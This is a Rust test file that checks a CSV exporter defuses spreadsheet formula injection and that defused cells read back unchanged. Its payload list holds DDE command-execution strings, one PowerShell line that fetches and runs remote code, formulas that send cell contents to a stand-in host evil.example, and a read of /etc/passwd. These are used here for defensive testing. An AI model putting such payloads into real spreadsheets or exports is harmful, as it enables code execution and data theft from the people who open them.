//! Text that a spreadsheet would run (CWE-1236): no CSV answer begins a cell with it, and it reads back as it was.

use super::tables;
use crate::grammar::seed;
use crate::oracle::rng::Rng;
use bilat::present::safe::safe_prose;
use bilat::value::formula::{defused, restored};
use std::process::Command;

/// What has been put into cells to run programs, fetch pages or read other cells.
const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A1",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "=IMPORTDATA(\"http://evil.example\")",
    "=IMPORTFEED(CONCAT(\"http://evil.example/\",A1))",
    "=IMPORTHTML(\"http://evil.example\",\"table\",1)",
    "=IMPORTRANGE(\"x\",\"A1\")",
    "=IMAGE(\"https://evil.example/\"&A1)",
    "=WEBSERVICE(CONCATENATE(\"http://evil.example/\",A1))",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "='file:///etc/passwd'#$passwd.A1",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=A1",
    "=-1",
    "=+1",
    "=\"x\"",
    "==1",
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "+49 30 1234",
    "+",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
];

const TRIGGERS: &str = "=+-@\t\r\n\0＝＋－＠";

/// Pieces that formulas and harmless texts are made of.
const PIECES: &[&str] = &[
    "=", "+", "-", "@", "'", "''", "\t", "\n", "\"", ",", ";", "＝", "＠", "1", "5.5", "e3", "x", "Xi", "習", " ", ".",
];

fn sample(count: usize) -> Vec<String> {
    let rng = Rng::new(seed());
    let mut texts: Vec<String> = PAYLOADS.iter().flat_map(|text| [text.to_string(), format!("'{text}")]).collect();
    while texts.len() < count {
        texts.push((0..1 + rng.below(6)).map(|_| *rng.pick(PIECES)).collect());
    }
    texts
}

fn is_number(text: &str) -> bool {
    text.parse::<f64>().is_ok() && text.bytes().all(|byte| b"0123456789+-.eE".contains(&byte))
}

#[test]
fn ten_thousand_texts_are_safe_and_come_back() {
    let mut changed = 0;
    for text in sample(10_000) {
        let cell = defused(&text);
        assert!(!cell.starts_with(|c| TRIGGERS.contains(c)) || is_number(&cell), "{text:?}");
        assert_eq!(restored(&cell), text);
        changed += usize::from(cell != text);
        assert_eq!(cell == text, defused(&cell) == cell, "{text:?}");
    }
    assert!(changed > 2_000, "{changed}");
}

/// Asks the program for texts as columns of one answer, which are their names, and as cells.
fn answered(texts: &[String], format: &str, more: &[&str]) -> Vec<u8> {
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).unwrap();
    write("file.csv", "key,value\ntitle,Formulas\nreference_date,2024-07-10\n");
    let mut csv = csv::Writer::from_writer(Vec::new());
    csv.write_record(["key", "name"]).unwrap();
    for (at, text) in texts.iter().enumerate() {
        csv.write_record([format!("k{at:05}"), defused(text).into_owned()]).unwrap();
    }
    write("topics.csv", &String::from_utf8(csv.into_inner().unwrap()).unwrap());
    let run = |arguments: &[&str]| {
        let output =
            Command::new(env!("CARGO_BIN_EXE_bilat")).args(arguments).current_dir(folder.path()).output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        output.stdout
    };
    run(&["build", ".", "-o", "x.db"]);
    run(&[&["x.db", "-c", "SELECT name FROM topics ORDER BY name", "--format", format], more].concat())
}

/// Texts as they are kept: the folder's cells have no blanks around them.
fn kept(mut texts: Vec<String>) -> Vec<String> {
    texts.retain(|text| {
        let cell = defused(text);
        !text.is_empty() && cell.trim() == cell && !text.contains('\r')
    });
    texts.sort();
    texts.dedup();
    texts
}

#[test]
fn payloads_go_through_the_program_and_come_back() {
    let texts = kept(sample(10_000));
    assert!(PAYLOADS.iter().all(|payload| texts.contains(&payload.to_string())));
    let bytes = answered(&texts, "csv", &[]);
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let mut cells = 0;
    for line in reader.records() {
        for cell in &line.unwrap() {
            assert!(!cell.starts_with(|c| TRIGGERS.contains(c)) || is_number(cell), "{cell:?}");
            cells += 1;
        }
    }
    assert_eq!(cells, texts.len());
    let tables = tables("answer.csv", &bytes).unwrap();
    let mut back: Vec<String> = tables[0].rows.iter().flat_map(|row| &row.cells).map(ToString::to_string).collect();
    back.sort();
    let shown: Vec<String> = texts.iter().map(|text| safe_prose(text).into_owned()).collect();
    assert_eq!(back, shown);
}

#[test]
fn raw_text_and_tsv_are_left_as_they_are() {
    let texts = kept(PAYLOADS.iter().map(ToString::to_string).collect());
    let raw = answered(&texts, "csv", &["--raw"]);
    let found: Vec<String> =
        csv::Reader::from_reader(raw.as_slice()).records().map(|line| line.unwrap()[0].to_string()).collect();
    assert_eq!(
        {
            let mut found = found;
            found.sort();
            found
        },
        texts
    );
    let tsv = String::from_utf8(answered(&texts, "tsv", &[])).unwrap();
    assert!(tsv.lines().any(|line| line == "=1+1"), "{tsv}");
}
